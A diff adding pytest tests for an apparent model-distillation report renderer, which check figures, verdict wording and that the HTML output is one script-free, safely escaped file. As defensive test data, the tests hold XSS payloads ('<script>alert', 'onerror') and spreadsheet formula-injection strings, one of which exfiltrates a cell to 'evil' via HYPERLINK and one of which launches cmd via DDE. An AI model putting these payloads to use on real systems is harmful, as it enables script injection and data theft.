@@ -1,0 +1,498 @@
+"""The report: says what the numbers say and no more, is one safe file, and survives whatever is missing."""
+
+from __future__ import annotations
+
+import copy
+import json
+import re
+from html.parser import HTMLParser
+
+import pytest
+from rich.console import Console
+
+from ctr_kd.report import render, render_proof, render_sweep, summary_table, verdict
+from ctr_kd.report.charts import decimals, ticks
+from ctr_kd.report.findings import Figure, result_rows
+from ctr_kd.report.markup import VOID, element, join
+
+HOSTILE = "<script>alert('x')</script>\"><img src=x onerror=alert(1)> & \x00\ud800"
+
+
+def interval(value, width=0.002):
+    return {"value": value, "low": value - width, "high": value + width}
+
+
+def gap(value, width=0.001, p_value=0.01):
+    return {"difference": value, "low": value - width, "high": value + width, "p_value": p_value}
+
+
+@pytest.fixture
+def metrics():
+    models = {
+        name: {
+            "auc": interval(auc),
+            "gauc": interval(auc - 0.02) | {"users": 900, "undefined_users": 100},
+            "gauc_mean": interval(auc - 0.03),
+            "log_loss": interval(0.5 - auc / 10),
+            "normalized_entropy": 0.91,
+            "calibration_error": {"value": None, "reason": "there are no rows"},
+        }
+        for name, auc in {
+            "popularity": 0.6012,
+            "student_alone": 0.7351,
+            "student": 0.7412,
+            "teacher": 0.7437,
+            "boosted_trees": 0.7298,
+        }.items()
+    }
+    models["teacher"] |= {"rows_per_second": 1500.0, "rows_per_second_alone": 130.0, "parameters": 3_412_345, "bytes": 13_700_000}
+    models["student"] |= {"rows_per_second": 300_000.0, "parameters": 412_000, "bytes": 1_650_000}
+    return {
+        "run": {
+            "configuration": {"name": "conf/globo.yaml", "distill": {"alpha": 0.3}},
+            "fingerprint": "9f3c2ab4",
+            "seed": 7,
+            "started": "2024-05-03T02:00:11Z",
+            "seconds": {"ingest": 38.2, "pretrain": 221.7, "distill": 4000.0},
+            "peak_memory_bytes": 3_800_000_000,
+        },
+        "data": {"train_rows": 1_203_222, "test_rows": 500_123, "unseen_item_share": 0.1034, "quarantined_rows": 12},
+        "models": models,
+        "comparisons": {
+            "student-student_alone": {"auc": gap(0.0061), "log_loss": gap(-0.0042)},
+            "student-teacher": {"auc": gap(-0.0025)},
+            "student-boosted_trees": {"auc": gap(0.0114)},
+        },
+        "slices": {
+            "history_length/0": {"student": {"rows": 4321, "auc": interval(0.6543)}, "teacher": {"rows": 4321, "auc": interval(0.66)}},
+            "item/unseen": {"student": {"rows": 77, "auc": {"value": None, "reason": "all 77 labels are 0"}}},
+        },
+        "gate": {
+            "passed": False,
+            "checks": [{"name": "student AUC", "value": 0.7412, "bound": ">= 0.9", "passed": False}],
+            "champion_before": "4",
+            "champion_after": "4",
+        },
+    }
+
+
+@pytest.fixture
+def curves():
+    points = [{"step": step, "train_loss": 0.6 / step, "auc": 0.7 + step / 1e5, "score": 1.0} for step in (100, 200, 300)]
+    return {
+        "learning": {
+            "finetune": points,
+            "distill/student": {"points": points, "kept_step": 200},
+            "distill/student_alone": {"points": points},
+        },
+        "roc": {"student": [[0, 0], [0.2, 0.6], [1, 1]], "teacher": [[0, 0], [0.1, 0.6], [1, 1]]},
+        "reliability": {"student": [{"predicted": 0.1, "observed": 0.12, "low": 0.1, "high": 0.14, "rows": 50}]},
+    }
+
+
+class Page(HTMLParser):
+    """Elements, attributes and text of a page; fails on a tag that is not closed."""
+
+    def __init__(self, text):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.open, self.attributes, self.words = [], [], [], []
+        self.feed(text)
+        self.close()
+        assert self.open == []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes += attrs
+        if tag not in VOID:
+            self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        assert self.open.pop() == tag
+
+    def handle_data(self, data):
+        if self.open and self.open[-1] != "style":
+            self.words.append(data)
+
+    @property
+    def text(self):
+        return re.sub(r"\s+", " ", " ".join(self.words))
+
+
+class TestRender:
+    def test_contains_the_numbers(self, metrics, curves):
+        text = Page(render(metrics, curves)).text
+        for shown in ("0.7412", "[0.7392, 0.7432]", "+0.0061", "[+0.0051, +0.0071]", "0.7437", "−0.0025", "0.6012", "300,000", "3,412,345"):
+            assert shown in text
+        for shown in (
+            "0.6543",
+            "4,321",
+            "13.7 MB",
+            "1,203,222",
+            "10.34 %",
+            "3 min 42 s",
+            "1 h 7 min",
+            "3.8 GB",
+            "9f3c2ab4",
+        ):
+            assert shown in text
+        assert "The gate refused the challenger. The champion is version 4, as before." in text
+        assert ">= 0.9" in text and "alpha" in text and "130 row by row" in text
+
+    def test_draws_reliability_before_and_after_calibration(self, metrics, curves):
+        assert "Before and after calibration" not in Page(render(metrics, curves)).text
+        metrics["models"]["student"]["uncalibrated"] = {"log_loss": 0.4312, "calibration_error": 0.0123, "calibration_ratio": 1.1}
+        curves["uncalibrated"] = {"student": [{"predicted": 0.2, "observed": 0.12, "low": 0.1, "high": 0.14, "rows": 50}]}
+        text = Page(render(metrics, curves)).text
+        assert "Before and after calibration" in text
+        assert "Student, before – log loss 0.4312, calib. error 0.0123" in text and "Student, after – log loss 0.4259" in text
+
+    def test_is_one_file_without_requests_or_scripts(self, metrics, curves, tmp_path):
+        output = tmp_path / "report.html"
+        written = render(metrics, curves, output)
+        assert output.read_text("utf-8") == written
+        page = Page(written)
+        assert not {"script", "img", "iframe", "object", "link", "base", "form"} & set(page.tags)
+        assert not [name for name, _ in page.attributes if name in ("src", "href", "srcset") or name.startswith("on")]
+        assert "url(" not in written and "@import" not in written and "http:" not in written and "https:" not in written
+        assert {"svg", "table", "details"} <= set(page.tags)
+
+    def test_hostile_texts_are_escaped_everywhere(self, metrics, curves):
+        hostile = copy.deepcopy(metrics)
+        hostile["run"] |= {
+            "configuration": HOSTILE,
+            "fingerprint": HOSTILE,
+            "started": HOSTILE,
+            "seconds": {HOSTILE: 3.0, "ingest": HOSTILE},
+        }
+        hostile["data"][HOSTILE] = HOSTILE
+        hostile["models"][HOSTILE] = {"auc": {"value": None, "reason": HOSTILE}, "report": {HOSTILE: {"f1": 0.5, "support": HOSTILE}}}
+        hostile["models"][f"teacher/{HOSTILE}"] = {"auc": interval(0.7)}
+        hostile["comparisons"][HOSTILE] = {"auc": gap(0.1) | {"reason": HOSTILE}}
+        hostile["slices"][f"{HOSTILE}/{HOSTILE}"] = {HOSTILE: {"rows": HOSTILE, "auc": interval(0.6)}}
+        hostile["gate"] = {"passed": True, "checks": [{"name": HOSTILE, "bound": HOSTILE, "reason": HOSTILE}], "champion_after": HOSTILE}
+        shown = {
+            name: {f"{HOSTILE}": points}
+            for name, points in (("roc", [[0, 0], [1, 1]]), ("reliability", [{"predicted": 0.1, "observed": 0.1}]))
+        }
+        shown["learning"] = {f"{HOSTILE}/{HOSTILE}": [{"step": 1, HOSTILE: 0.5}]}
+        written = render(hostile, shown)
+        page, clean = Page(written), Page(render(metrics, curves))
+        assert set(page.tags) <= set(clean.tags)
+        assert {name for name, _ in page.attributes} <= {name for name, _ in clean.attributes}
+        assert written.count("<script") == 0 and "alert('x')" in page.text
+        assert "\x00" not in written
+        written.encode("utf-8")
+
+    @pytest.mark.parametrize(
+        "name", ['=HYPERLINK("http://evil/?"&A1,"<b>open</b>")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1<img src=x>", "-2+3&#61;"]
+    )
+    def test_ids_like_formulas_are_text_in_every_table(self, metrics, curves, name):
+        hostile = copy.deepcopy(metrics)
+        hostile["slices"][f"item/{name}"] = {"student": {"rows": 5, "auc": interval(0.6)}}
+        hostile["gate"]["checks"] = [{"name": name, "value": 0.1, "bound": name, "passed": False, "champion": 0.2}]
+        hostile["models"]["student"]["report"] = {name: {"precision": 0.5, "recall": 0.5, "f1": 0.5, "support": 9}}
+        written = render(hostile, curves)
+        page, clean = Page(written), Page(render(metrics, curves))
+        assert page.text.count(name) >= 3
+        assert set(page.tags) <= set(clean.tags)
+        assert {attribute for attribute, _ in page.attributes} <= {attribute for attribute, _ in clean.attributes}
+        assert "evil" not in "".join(str(value) for attribute, value in page.attributes if attribute in ("href", "src"))
+
+    def test_hostile_names_never_become_classes(self, metrics):
+        hostile = metrics | {"models": {"wide tile": {"auc": interval(0.7)}}}
+        classes = {value for name, value in Page(render(hostile)).attributes if name == "class"}
+        assert not any("wide tile" in value for value in classes)
+        assert "swatch other" in classes
+
+    @pytest.mark.parametrize("missing", ["run", "data", "models", "comparisons", "slices", "gate"])
+    def test_any_part_may_be_missing(self, metrics, curves, missing):
+        for value in (None, {}):
+            Page(render(metrics | {missing: value}, curves))
+        Page(render({key: value for key, value in metrics.items() if key != missing}))
+
+    def test_nothing_at_all(self):
+        assert "unknown" in Page(render({})).text
+
+    def test_nested_facts_are_folded_and_null_ones_left_out(self, metrics):
+        metrics["data"] |= {"candidates": {"by": "popularity"}, "negative_sampling_rate": None}
+        text = Page(render(metrics)).text
+        assert 'How the rows were made { "candidates": { "by": "popularity" } }' in text
+        assert "Negative sampling rate" not in text
+
+    def test_says_what_fine_tuning_cost_the_teacher(self, metrics):
+        assert "masked-item" not in render(metrics)
+        metrics["models"]["teacher"]["masked_item_accuracy"] = {"before": 0.1031, "after": 0.1014}
+        metrics["run"]["configuration"] = {"finetune": {"strategy": "<low>", "rate_ratio": 0.01}}
+        text = Page(render(metrics)).text
+        assert "Fine-tuning (<low>, ratio 0.01) moved masked-item accuracy from 0.1031 to 0.1014." in text
+        metrics["run"]["configuration"] = {"finetune": {"strategy": "freeze", "rate_ratio": 0.01}}
+        assert "Fine-tuning (freeze) moved masked-item accuracy" in Page(render(metrics)).text
+        metrics["models"]["teacher"]["masked_item_accuracy"]["after"] = None
+        assert "masked-item" not in render(metrics)
+
+    def test_shows_what_every_fine_tuning_destroyed(self, metrics):
+        assert "What fine-tuning destroyed" not in render(metrics)
+        tuning = {"strategy": "low_lr", "rate_ratio": 0.01, "configured": True, "held_out_sequences": 612, "auc": 0.7712}
+        tuning |= {"masked_item_accuracy": {"before": 0.2, "after": 0.198}, "masked_item_loss": {"before": 5.5, "after": 5.61}}
+        full = tuning | {"rate_ratio": 1.0, "configured": False, "auc": 0.7699, "different": {"training.epochs": 4}}
+        full |= {"masked_item_accuracy": {"before": 0.2, "after": 0.02}}
+        fresh = full | {"strategy": "from_scratch", "masked_item_accuracy": {"before": 0.001, "after": 0.0}, "auc": None, "different": {}}
+        metrics["models"]["teacher"]["fine_tunings"] = [fresh, full, tuning]
+        text = Page(render(metrics)).text.split("What fine-tuning destroyed")[1]
+        lines = [text.index(shown) for shown in ("low_lr, ratio 0.01 this run", "low_lr, ratio 1.0, training.epochs 4", "from_scratch")]
+        assert lines == sorted(lines)
+        for shown in ("0.1980", "1.0 %", "90.0 %", "0.7712", "0.7699", "5.500", "5.610", "612 sequences"):
+            assert shown in text
+        assert text.split("Learning curves")[0].split("The road")[0].count("%") == 2  # nothing can be destroyed of what was never learnt
+        metrics["models"]["teacher"]["fine_tunings"] = [{"strategy": HOSTILE, "different": {HOSTILE: HOSTILE}, "auc": HOSTILE}]
+        page = render(metrics)
+        assert "<script" not in page and "alert('x')" in Page(page).text
+
+    def test_before_the_gate(self, metrics):
+        assert "has not been put before the gate yet" in Page(render(metrics | {"gate": None})).text
+
+    def test_numbers_that_are_none_do_not_break_it(self, metrics, curves):
+        metrics["models"]["student"] = {"auc": float("nan"), "gauc": None, "log_loss": {"value": "high"}, "rows_per_second": float("inf")}
+        curves["learning"]["finetune"] = [{"step": 1, "train_loss": float("nan")}, {"step": 2}]
+        text = Page(render(metrics, curves)).text
+        assert "nan" not in text.lower().replace("finance", "") and "inf" not in re.findall(r"\b\w+\b", text)
+
+    def test_classes(self, metrics):
+        report = {"sport": {"precision": 0.9, "recall": 0.8, "f1": 0.847, "support": 321}}
+        metrics["models"]["student"]["report"] = report
+        text = Page(render(metrics)).text
+        assert "By class" in text and "0.847" in text and "321" in text
+
+    def test_undefined_values_come_with_their_reason(self, metrics):
+        page = Page(render(metrics))
+        assert "Student, Calib. error: there are no rows" in page.text
+        assert ("title", "all 77 labels are 0") in page.attributes
+
+
+class TestVerdict:
+    def said(self, metrics, value, low, high):
+        metrics["comparisons"]["student-student_alone"]["auc"] = {"difference": value, "low": low, "high": high, "p_value": 0.5}
+        return verdict(metrics)
+
+    def test_gain(self, metrics):
+        said = self.said(metrics, 0.0061, 0.0048, 0.0075)
+        assert said.effect == "gain"
+        assert said.headline == "Distillation gave +0.0061 AUC [+0.0048, +0.0075] over the same student trained alone."
+        assert said.remarks[0] == (
+            "The student keeps 99.0 % of the teacher's AUC above chance, at 1/200 of its cost "
+            "(1/2,308 of it where the teacher scores row by row)."
+        )
+
+    def test_loss(self, metrics):
+        said = self.said(metrics, -0.0158, -0.02, -0.01)
+        assert said.effect == "loss"
+        assert said.headline == "Distillation cost 0.0158 AUC [−0.0200, −0.0100]: the same student is better trained alone."
+
+    def test_no_difference_is_called_none(self, metrics):
+        said = self.said(metrics, 0.0021, -0.0004, 0.0046)
+        assert said.effect == "even"
+        assert said.headline == "Distillation made no difference that can be told from zero: +0.0021 AUC [−0.0004, +0.0046]."
+
+    def test_without_an_interval_there_is_no_claim(self, metrics):
+        metrics["comparisons"]["student-student_alone"]["auc"] = {"difference": 0.2, "low": None, "high": None, "reason": "one user"}
+        said = verdict(metrics)
+        assert said.effect == "unknown" and said.headline.endswith("no interval to judge it by (one user).")
+
+    def test_student_above_its_teacher(self, metrics):
+        metrics["models"]["student"]["auc"] = interval(0.75)
+        metrics["comparisons"]["student-teacher"]["auc"] = gap(0.0063)
+        assert verdict(metrics).remarks[0].startswith("The student passes its teacher, AUC 0.7500 against 0.7437, at 1/200 of its cost")
+        metrics["comparisons"]["student-teacher"]["auc"] = gap(0.0063, width=0.01)
+        assert verdict(metrics).remarks[0].startswith("The student is level with its teacher")
+
+    def test_teacher_at_chance(self, metrics):
+        metrics["models"]["teacher"]["auc"] = interval(0.499)
+        assert "no better than chance (AUC 0.4990)" in verdict(metrics).remarks[0]
+
+    def test_student_at_chance_keeps_nothing(self, metrics):
+        metrics["models"]["student"]["auc"] = interval(0.48)
+        assert verdict(metrics).remarks[0] == "The student is no better than chance (AUC 0.4800)."
+
+    def test_slower_student(self, metrics):
+        metrics["models"]["student"]["rows_per_second"] = 750.0
+        assert "at 2.0 times its cost" in verdict(metrics).remarks[0]
+
+    def test_baselines_that_win_are_named(self, metrics):
+        metrics["comparisons"]["student-boosted_trees"]["auc"] = gap(-0.004)
+        metrics["comparisons"]["student-popularity"] = {"auc": gap(0.0003)}
+        remarks = " ".join(verdict(metrics).remarks)
+        assert "Boosted trees do better than the student: −0.0040 [−0.0050, −0.0030] AUC, student minus boosted trees." in remarks
+        assert "Popularity cannot be told apart from the student" in remarks
+
+    def test_weak_teacher_is_named(self, metrics):
+        metrics["comparisons"]["teacher-student_alone"] = {"auc": gap(-0.01)}
+        assert any(remark.startswith("The teacher is weaker than the student trained alone") for remark in verdict(metrics).remarks)
+
+    def test_oracle(self, metrics):
+        metrics["models"]["oracle"] = {"auc": interval(0.8)}
+        assert "the student has 80.4 % of it above chance" in verdict(metrics).remarks[-1]
+
+
+class TestSummaryTable:
+    def text(self, metrics):
+        console = Console(width=200, record=True, file=open("/dev/null", "w"))  # noqa: SIM115
+        console.print(summary_table(metrics))
+        return console.export_text()
+
+    def test_same_rows_as_the_report(self, metrics):
+        lines = [line for line in self.text(metrics).splitlines() if line.strip()]
+        assert [line.split("  ")[0] for line in lines] == ["Model", "Teacher", "Student", "Student alone", "Boosted trees", "Popularity"]
+        assert "0.7412" in lines[2] and "[0.7392, 0.7432]" in lines[2] and "300,000" in lines[2]
+        assert [row.title for row in result_rows(metrics)] == [line.split("  ")[0] for line in lines[1:]]
+
+    def test_brackets_in_names_are_no_markup(self):
+        assert "[bold]evil" in self.text({"models": {"[bold]evil": {"auc": interval(0.7)}}})
+
+    def test_empty(self):
+        assert summary_table({}).row_count == 0
+
+
+class TestPieces:
+    def test_figure_reads_every_form(self):
+        assert Figure.of({"value": None, "reason": "one label"}) == Figure(None, reason="one label")
+        assert Figure.of({"value": 0.5, "low": 0.4, "high": 0.6}).sign == 1
+        assert Figure.of({"difference": -0.1, "low": -0.2, "high": 0.1}, "difference").sign == 0
+        assert Figure.of(True).value is None
+
+    def test_elements_escape(self):
+        assert element("a", "<", None, [element("b", 1), "&"], title='"', class_=None) == '<a title="&quot;">&lt;<b>1</b>&amp;</a>'
+        assert join("a", ["b", None], 3) == "ab3"
+
+    @pytest.mark.parametrize(("domain", "about"), [((0.0, 1.0), 5), ((0.7012, 0.7013), 4), ((-3.0, 4e6), 5), ((5.0, 5.0), 3)])
+    def test_ticks_are_inside(self, domain, about):
+        values = ticks(domain, about)
+        assert 1 <= len(values) <= 2 * about + 2 and all(domain[0] - 1e-9 <= value <= domain[1] + 1e-9 for value in values)
+        assert len(set(decimals(values))) == len(values)
+
+
+def test_report_of_a_real_evaluation(tmp_path):
+    """From labels to the page, through JSON as the stages do it."""
+    import numpy as np
+
+    from ctr_kd.evaluation.evaluate import EvaluationRows, curves, evaluate, standard_slices
+
+    rng = np.random.default_rng(0)
+    logit = rng.normal(-1, 1, 3000)
+    label = (rng.random(3000) < 1 / (1 + np.exp(-logit))).astype(int)
+    scores = {
+        name: 1 / (1 + np.exp(-logit - rng.normal(0, noise, 3000)))
+        for name, noise in (("teacher", 0.2), ("student", 0.4), ("student_alone", 1.5))
+    }
+    rows = EvaluationRows(label, rng.integers(0, 200, 3000), slices=standard_slices(history_length=rng.integers(0, 15, 3000)))
+    metrics = json.loads(json.dumps(evaluate(rows, scores, replicates=50)))
+    page = Page(render(metrics, json.loads(json.dumps(curves(label, scores))), tmp_path / "report.html"))
+    assert f"{metrics['models']['student']['auc']['value']:.4f}" in page.text
+    assert "Distillation gave +" in page.text
+
+
+@pytest.fixture
+def proof(metrics):
+    models = {name: metrics["models"][name] for name in ("teacher", "student", "student_alone")}
+    models["student"]["auc"]["seeds"], models["student_alone"]["auc"]["seeds"] = [0.7402, 0.7422], [0.7301, 0.7401]
+    gain = gap(0.0061) | {"seeds": [0.0101, 0.0021]}
+    return {
+        "run": metrics["run"],
+        "seeds": [7, 8],
+        "models": models,
+        "comparisons": {"student-student_alone": {"auc": gain}, "student-teacher": {"auc": gap(-0.0025)}},
+        "ablation": [
+            {"name": "label gate", "auc": interval(0.7431), "against_student": gap(0.0019), "against_student_alone": gap(0.008)},
+        ],
+        "not_possible": {HOSTILE: "din reads it anew"},
+    }
+
+
+class TestProof:
+    def test_the_verdict_is_one_sentence(self, proof):
+        assert verdict(proof).sentence == (
+            "Distillation gave +0.0061 AUC [+0.0051, +0.0071] over the same student trained alone; the student keeps 99.0 % of the "
+            "teacher's AUC above chance, at 1/200 of its cost (1/2,308 of it where the teacher scores row by row)."
+        )
+        assert "The distilled student is better in 2 of 2 seeds, by +0.0021 to +0.0101." in verdict(proof).remarks
+
+    def test_it_says_so_when_distillation_does_not_help_and_when_there_is_one_seed(self, proof):
+        pair = proof["comparisons"]["student-student_alone"]
+        pair["auc"] = gap(-0.0061) | {"seeds": [-0.0061]}
+        said = verdict(proof)
+        assert said.effect == "loss" and said.sentence.startswith("Distillation cost 0.0061 AUC")
+        assert any("All this is of one seed" in remark for remark in said.remarks)
+
+    def test_the_page_shows_seeds_and_ablation_and_is_one_safe_file(self, proof):
+        written = render_proof(proof)
+        page = Page(written)
+        for shown in ("Proof of distillation", "0.7402", "+0.0101", "label gate", "+0.0019", "+0.0080", "1 changes cannot be made here"):
+            assert shown in page.text
+        assert "script" not in page.tags and "<script>" not in written and "http" not in written.split("</style>")[1]
+
+    def test_the_page_draws_the_student_by_the_amount_of_its_transfer_set(self, proof):
+        assert "by its amount" not in render_proof(proof)
+        points = [
+            {
+                "amount": amount,
+                "configured": amount == 1,
+                "rows": round(80_123 * amount),
+                "validation_auc": 0.75 + amount / 100,
+                "auc": interval(0.74 + amount / 100),
+                "against_student": gap(-0.01 + amount / 100),
+                "against_student_alone": gap(0.004 + amount / 100),
+            }
+            for amount in (0, 0.5, 1)
+        ]
+        page = Page(render_proof(proof | {"amounts": {"key": "distill.transfer.amount", "points": points}}))
+        wanted = (
+            "The transfer set by its amount",
+            "distill.transfer.amount",
+            "80,123",
+            "0.7550",
+            "0.7450",
+            "+0.0090",
+            "\N{MINUS SIGN}0.0050",
+        )
+        for shown in (*wanted, "this configuration"):
+            assert shown in page.text
+        written = render_proof(proof | {"amounts": {"key": HOSTILE, "points": [{**one, "validation_auc": None} for one in points]}})
+        assert "<script>" not in written and "AUC on test by amount" in written and "AUC on validation by amount" not in written
+
+
+class TestSweep:
+    @pytest.fixture
+    def sweep(self, metrics):
+        students = [
+            {
+                "name": f"{kind} {width}",
+                "kind": kind,
+                "width": width,
+                "validation_auc": 0.75 + width / 1000,
+                "auc": interval(0.74 + width / 1000),
+                "rows_per_second": 1e6 / width,
+                "parameters": 1000 * width,
+                "bytes": 4000 * width,
+                "on_frontier": {"rows_per_second": kind == "pooled", "bytes": width == 8},
+            }
+            for kind in ("pooled", "din")
+            for width in (8, 32)
+        ]
+        return {"run": metrics["run"], "teacher": metrics["models"]["teacher"], "students": students, "not_possible": {"din 512": HOSTILE}}
+
+    def test_the_page_draws_the_frontier(self, sweep):
+        written = render_sweep(sweep)
+        page = Page(written)
+        assert "The best of 4 students on validation is pooled 32: AUC 0.7720 on test, 31,250 rows/s, 128 kB." in page.text
+        for shown in (
+            "Worth having for their speed, best first: pooled 32 (0.7720), pooled 8 (0.7480)",
+            "83.3 × the teacher",
+            "speed, size",
+        ):
+            assert shown in page.text
+        assert page.tags.count("svg") >= 7 and "<script>" not in written
+
+    def test_without_a_teacher_or_a_speed(self, sweep):
+        del sweep["teacher"]
+        for student in sweep["students"]:
+            student["rows_per_second"] = None
+        assert "AUC against bytes" in Page(render_sweep(sweep)).text
